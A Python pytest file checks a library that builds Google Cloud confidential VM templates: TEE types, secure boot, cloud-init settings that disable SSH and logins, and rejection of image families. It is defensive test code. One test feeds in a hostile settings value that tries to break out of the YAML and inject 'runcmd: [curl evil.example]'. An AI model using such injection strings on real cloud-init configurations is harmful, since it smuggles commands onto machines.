from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

import pytest
import yaml
from recording import Recording

from jewelhouse.errors import JewelhouseError
from jewelhouse.gcp import ConfidentialVm, ConfidentialVmArgs
from jewelhouse.model import Tee

IMAGE = "projects/op/global/images/server-20261101"
TEMPLATE = "gcp:compute/regionInstanceTemplate:RegionInstanceTemplate"


@pytest.fixture
def host(recorded: Callable[..., Recording]) -> Callable[..., Recording]:
    def build(**changes: Any) -> Recording:
        values: dict[str, Any] = {
            "project": "op",
            "region": "europe-west4",
            "zones": ("europe-west4-a",),
            "machine_type": "c3-standard-4",
            "tee": Tee.TDX,
            "subnetwork": "subnet-id",
            "service_account": "llm-serve@op.iam.gserviceaccount.com",
            "boot_image": IMAGE,
            "settings": '{"stage": "serve"}',
            **changes,
        }
        return recorded(lambda: ConfidentialVm("serve", ConfidentialVmArgs(**values)))

    return build


@pytest.mark.parametrize(
    ("machine", "tee", "kind", "platform", "maintenance"),
    [
        ("c3-standard-4", Tee.TDX, "TDX", None, "TERMINATE"),
        # SNP without this platform, or with live migration, is refused at creation.
        ("n2d-standard-4", Tee.SEV_SNP, "SEV_SNP", "AMD Milan", "TERMINATE"),
        ("n2d-standard-4", Tee.SEV, "SEV", "AMD Milan", "MIGRATE"),
    ],
)
def test_technologies(
    host: Callable[..., Recording], machine: str, tee: Tee, kind: str, platform: str | None, maintenance: str
) -> None:
    inputs = host(machine_type=machine, tee=tee).one(TEMPLATE).inputs
    assert inputs["confidentialInstanceConfig"] == {"confidentialInstanceType": kind}
    assert inputs.get("minCpuPlatform") == platform
    assert inputs["scheduling"]["onHostMaintenance"] == maintenance
    assert inputs["shieldedInstanceConfig"]["enableSecureBoot"] is True
    assert inputs["disks"][0]["sourceImage"] == IMAGE


def test_the_guest_finds_its_settings_and_nobody_logs_in(host: Callable[..., Recording]) -> None:
    text = host().one(TEMPLATE).inputs["metadata"]["user-data"]
    assert text.startswith("#cloud-config\n")
    config = yaml.safe_load(text)
    settings, unit = config["write_files"]
    assert settings["path"] == "/etc/jewelhouse/stage.json"
    assert f"--settings {settings['path']}" in unit["content"]
    assert base64.b64decode(settings["content"]) == b'{"stage": "serve"}'
    assert config["users"] == []
    assert config["ssh_pwauth"] is False
    assert {"ssh.service", "ssh.socket", "serial-getty@ttyS0.service"} <= set(config["bootcmd"][0])


def test_settings_cannot_break_out_of_the_user_data(host: Callable[..., Recording]) -> None:
    hostile = '"\nruncmd: [curl evil.example]\n{{ 1 }} {% raw %}'
    config = yaml.safe_load(host(settings=hostile).one(TEMPLATE).inputs["metadata"]["user-data"])
    assert base64.b64decode(config["write_files"][0]["content"]).decode() == hostile
    assert config["runcmd"] == [
        ["systemctl", "daemon-reload"],
        ["systemctl", "enable", "--now", "jewelhouse-guest.service"],
    ]


@pytest.mark.parametrize(
    "image",
    [
        "projects/ubuntu-os-cloud/global/images/family/ubuntu-2404-lts",
        "ubuntu-2404",
        "debian-cloud/debian-12",
    ],
)
def test_an_image_family_is_refused(host: Callable[..., Recording], image: str) -> None:
    with pytest.raises(JewelhouseError, match="is not one image"):
        host(boot_image=image)
